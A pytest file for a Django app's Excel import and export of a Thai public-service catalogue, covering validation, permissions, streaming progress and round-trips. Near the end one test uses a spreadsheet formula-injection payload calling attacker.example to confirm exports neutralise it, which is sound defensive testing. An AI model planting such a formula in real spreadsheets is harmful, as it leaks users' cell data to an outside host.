"""Excel: the blank workbook, importing many drafts at once (all or nothing), exporting."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from siang.catalog import excel, excel_views
from siang.catalog.models import ServiceProcess
from tests.catalog.conftest import make_process
from tests.catalog.helpers import fill_workbook, workbook_row


def _workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_the_blank_workbook_explains_itself_and_has_every_sheet(phrae):
    book = _workbook(excel.blank_workbook(phrae["units"]["a"]))
    assert book.sheetnames == ["อ่านก่อน", "กระบวนงาน", *excel.LIST_SHEETS.values()]
    headers = [cell.value for cell in book["กระบวนงาน"][1]]
    assert headers[:2] == ["ลำดับส่วนงาน (department)", "ลำดับกระบวนงาน (sequence)"]
    assert any("คู่มือ" in str(cell.value) for cell in book["อ่านก่อน"]["A"])


def test_a_filled_workbook_creates_drafts_with_their_lists(departments, personas):
    unit = departments["a1"].unit
    data = fill_workbook(
        excel.blank_workbook(unit),
        [workbook_row(1, 5, "การขอข้อมูลข่าวสารของราชการ", no_fee="ใช่", category="other"), workbook_row(2, 7)],
        steps=[
            [2, 7, "ยื่นคำขอ", "", "1 วัน", "", 480, "กองช่าง", ""],
            [2, 7, "ตรวจสถานที่", "", "3 วัน", "", 1440, "กองช่าง", ""],
        ],
        fees=[[2, 7, "ค่าติดตั้งมาตร", "", 500]],
    )
    result = excel.import_workbook(data=data, unit=unit, actor=personas["user_a"])
    assert result.problems == []
    assert len(result.created) == 2
    water = ServiceProcess.objects.get(department=departments["a2"], sequence=7)
    draft = water.draft_revision
    assert draft.name_th == "การขออนุญาตใช้น้ำประปา" and draft.status == "draft"
    assert [step["th"] for step in draft.steps] == ["ยื่นคำขอ", "ตรวจสถานที่"]
    assert draft.fees == [{"th": "ค่าติดตั้งมาตร", "en": "", "amount": 500}]
    assert water.live_revision is None  # citizens see nothing until the Admin approves
    info = ServiceProcess.objects.get(department=departments["a1"], sequence=5).draft_revision
    assert info.no_fee is True and info.category == "other"


def test_every_bad_row_is_reported_and_nothing_is_imported(departments, personas):
    unit = departments["a1"].unit
    make_process(departments["a2"], personas["user_a"], sequence=3)
    data = fill_workbook(
        excel.blank_workbook(unit),
        [
            workbook_row(1, 1, "คู่มือสำหรับประชาชน: การขออนุญาตใช้น้ำประปา"),
            workbook_row(9, 1),
            workbook_row(2, 3),
            workbook_row(1, 2, no_fee="บางที"),
            workbook_row(1, 4, category="ไม่มีหมวดนี้"),
            ["หนึ่ง", 1, "", "การขอรับบริการจัดเก็บขยะมูลฝอย"],
            workbook_row(1, 6),
        ],
        steps=[[1, 99, "ขั้นตอนของกระบวนงานที่ไม่มี"]],
    )
    before = ServiceProcess.objects.count()
    result = excel.import_workbook(data=data, unit=unit, actor=personas["user_a"])
    assert result.created == []
    assert ServiceProcess.objects.count() == before
    found = {(p.sheet, p.row, p.column.split("(")[-1].rstrip(")")) for p in result.problems}
    assert ("กระบวนงาน", 2, "name_th") in found  # คู่มือ in the name
    assert ("กระบวนงาน", 3, "department") in found  # no department 9
    assert ("กระบวนงาน", 4, "sequence") in found  # 2/3 exists already
    assert ("กระบวนงาน", 5, "no_fee") in found
    assert ("กระบวนงาน", 6, "category") in found
    assert ("กระบวนงาน", 7, "department") in found  # not a number
    assert ("ขั้นตอน", 2, "sequence") in found  # a step of no process
    manual = next(p for p in result.problems if (p.sheet, p.row) == ("กระบวนงาน", 2))
    assert "การขออนุญาตใช้น้ำประปา" in manual.message  # offers the corrected name


def test_a_file_that_is_not_a_workbook_is_explained(departments, personas):
    result = excel.import_workbook(
        data=b"%PDF-1.7 not a workbook", unit=departments["a1"].unit, actor=personas["user_a"]
    )
    assert result.created == [] and "Excel" in result.problems[0].message


def test_export_then_import_elsewhere_gives_the_same_catalogue(departments, personas):
    unit_a = departments["a1"].unit
    make_process(departments["a2"], personas["user_a"], sequence=4)
    exported = excel.export_workbook(unit_a)
    rows = list(_workbook(exported)["กระบวนงาน"].iter_rows(min_row=2, values_only=True))
    assert [(row[0], row[1], row[3]) for row in rows] == [(2, 4, "การขออนุญาตใช้น้ำประปา")]

    unit_b = departments["b1"].unit
    book = _workbook(exported)
    for title in ["กระบวนงาน", *excel.LIST_SHEETS.values()]:
        for row in book[title].iter_rows(min_row=2):
            row[0].value = 1  # into unit B's department 1
    buffer = io.BytesIO()
    book.save(buffer)
    result = excel.import_workbook(data=buffer.getvalue(), unit=unit_b, actor=personas["admin_b"])
    assert result.problems == []
    original = ServiceProcess.objects.get(unit=unit_a).draft_revision
    copy = result.created[0].draft_revision
    for field in ("name_th", "steps", "documents", "fees", "legal_bases", "channels", "complaint_channels"):
        assert getattr(copy, field) == getattr(original, field), field


def test_a_user_of_another_unit_cannot_import_into_this_one(departments, personas):
    from siang.catalog.services import CatalogError

    data = fill_workbook(excel.blank_workbook(departments["a1"].unit), [workbook_row(1, 1)])
    with pytest.raises(CatalogError):
        excel.import_workbook(data=data, unit=departments["a1"].unit, actor=personas["admin_b"])
    assert not ServiceProcess.objects.exists()


def _upload(data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("catalogue.xlsx", data, content_type=excel_views.XLSX)


def test_the_import_page_imports_or_lists_the_problems(client, departments, personas):
    from django.urls import reverse

    unit = departments["a1"].unit
    client.force_login(personas["user_a"])
    url = reverse("catalog_import", args=[unit.pk])
    template = client.get(reverse("catalog_import_template", args=[unit.pk]))
    assert template["Content-Type"] == excel_views.XLSX

    bad = client.post(url, {"workbook": _upload(fill_workbook(template.content, [workbook_row(9, 1)]))})
    page = bad.content.decode()
    assert "Nothing was imported" in page and "There is no department number 9" in page
    assert not ServiceProcess.objects.exists()

    good = client.post(
        url,
        {
            "workbook": _upload(
                fill_workbook(template.content, [workbook_row(2, 1), workbook_row(2, 2, "การแจ้งการขุดดิน")])
            )
        },
    )
    assert good.status_code == 302
    assert ServiceProcess.objects.filter(unit=unit).count() == 2


def test_excel_pages_belong_to_the_unit(client, departments, personas):
    from django.urls import reverse

    from siang.audit.models import AuditEvent

    unit = departments["a1"].unit
    pages = ("catalog_import", "catalog_import_template", "catalog_export")
    outcomes = {}
    for key in ("admin_a", "user_a", "admin_b", "pacc", "overseer"):
        client.force_login(personas[key])
        outcomes[key] = [client.get(reverse(name, args=[unit.pk])).status_code for name in pages]
    assert outcomes == {
        "admin_a": [200, 200, 200],
        "user_a": [200, 200, 200],
        "admin_b": [404, 404, 404],
        "pacc": [404, 404, 200],  # PACC reads every catalogue, and writes none
        "overseer": [404, 404, 404],
    }
    assert AuditEvent.objects.filter(action="catalogue.exported", object_id=str(unit.pk)).count() == 3


def _many(unit, count: int) -> bytes:
    return fill_workbook(
        excel.blank_workbook(unit),
        [workbook_row(2, n, f"การขออนุญาตประกอบกิจการประเภทที่ {n}") for n in range(1, count + 1)],
    )


def test_a_long_import_shows_its_progress_as_it_goes(client, departments, personas):
    from django.urls import reverse

    unit = departments["a1"].unit
    client.force_login(personas["user_a"])
    response = client.post(reverse("catalog_import", args=[unit.pk]), {"workbook": _upload(_many(unit, 60))})
    assert response.streaming
    pieces = [piece.decode() for piece in response.streaming_content]
    assert "Importing 60 processes" in pieces[0]
    steps = [piece for piece in pieces if 'class="import-step"' in piece]
    assert [step.split('value="')[1].split('"')[0] for step in steps] == ["10", "20", "30", "40", "50", "60"]
    assert "60 processes were imported as drafts." in "".join(pieces)
    assert ServiceProcess.objects.filter(unit=unit).count() == 60


def test_leaving_a_long_import_half_way_writes_nothing(departments, personas):
    unit = departments["a1"].unit
    plan = excel.plan_import(data=_many(unit, 5), unit=unit)
    running = excel.carry_out(plan, actor=personas["user_a"])
    next(running)
    next(running)
    running.close()  # the browser went away
    assert not ServiceProcess.objects.exists()


HYPERLINK = '=HYPERLINK("http://attacker.example/?"&D3,"เปิด")'


def test_a_process_named_as_a_formula_exports_as_text(departments, personas):
    """The issue's case: a User names a process with a formula; the Admin's export shows the text."""
    make_process(departments["a2"], personas["user_a"], sequence=4, name_th=HYPERLINK)
    sheet = _workbook(excel.export_workbook(departments["a1"].unit))["กระบวนงาน"]
    cell = sheet.cell(row=2, column=4)
    assert cell.data_type == "s" and cell.value == "'" + HYPERLINK


def test_guarded_cells_import_back_as_they_were_typed(departments, personas):
    unit = departments["a1"].unit
    make_process(
        departments["a2"],
        personas["user_a"],
        sequence=4,
        name_th="-การขออนุญาตใช้น้ำประปา",
        fees=[{"th": "+ ค่าธรรมเนียม", "en": "", "amount": 20}],
    )
    book = _workbook(excel.export_workbook(unit))
    for title in ["กระบวนงาน", *excel.LIST_SHEETS.values()]:
        for row in book[title].iter_rows(min_row=2):
            row[0].value = 1  # a copy into department 1
    buffer = io.BytesIO()
    book.save(buffer)
    result = excel.import_workbook(data=buffer.getvalue(), unit=unit, actor=personas["user_a"])
    assert result.problems == []
    copy = result.created[0].draft_revision
    assert copy.name_th == "-การขออนุญาตใช้น้ำประปา"
    assert copy.fees == [{"th": "+ ค่าธรรมเนียม", "en": "", "amount": 20}]
